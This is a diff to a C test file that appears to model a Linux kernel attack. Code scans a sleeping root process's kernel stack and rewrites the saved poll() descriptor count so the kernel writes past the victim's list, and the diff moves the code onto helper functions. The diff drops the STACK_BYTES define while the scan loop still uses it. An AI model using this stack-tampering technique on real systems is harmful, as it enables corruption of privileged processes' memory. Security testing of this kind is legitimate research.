@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0-only
 #include <linux/poll.h>
 
-#include "saved_thread.h"
+#include "sleeper.h"
 
 ATTACK("shadow_stack", "sleeping_count", "LOST",
        "A program of root sleeps in a poll of 37 descriptors. On its kernel stack stands how many "
@@ -10,8 +10,6 @@ ATTACK("shadow_stack", "sleeping_count", "LOST",
        "the argument stands in the program's registers, which only its own page tables show.",
        "The kernel writes behind the list, in the memory of root's program.");
 
-#define FIFO "/tmp/fifo"
-#define STACK_BYTES 4096
 #define COUNT 37
 #define KERNEL_ENTRY 16 /* bytes of an entry of the kernel's own list: it may count in bytes */
 
@@ -20,32 +18,21 @@ static struct {
 	volatile uint64_t behind;
 } memory;
 
-static bool control(void)
-{
-	await(is_asleep(victim_task(own_task())));
-	return is_ordinary() && peek32(victim_task(own_task()) + member("task.id")) != 0;
-}
-
 static bool fire(void)
 {
-	const uint64_t top = peek(victim_task(own_task()) + member("task.arch.stack_top"));
-	const long file = call3(__NR_open, (long)FIFO, O_WRONLY, 0);
-	const uint64_t bytes = 1;
+	const uint64_t top = sleeper_stack_top(), bytes = 1;
 
 	for (uint64_t at = top - STACK_BYTES; at < top; at += 4)
 		for (uint32_t size = 1; size <= KERNEL_ENTRY; size *= 2)
 			if (peek32(at) == COUNT * size)
 				poke32(at, (COUNT + 1) * size);
-	call3(__NR_write, file, (long)&bytes, sizeof(bytes));
-	await(victim_has_ended());
+	sleeper_wake(&bytes, sizeof(bytes));
 	return false;
 }
 
 static void victim(void)
 {
-	const long file =
-		(call3(__NR_mknod, (long)FIFO, 0010000 | 0666, 0),
-		 call2(__NR_chmod, (long)FIFO, 0666), call3(__NR_open, (long)FIFO, O_RDWR, 0));
+	const long file = make_fifo();
 
 	for (int i = 0; i < COUNT; i++)
 		memory.asked[i] = (struct pollfd){ .fd = (int)file, .events = POLLIN };
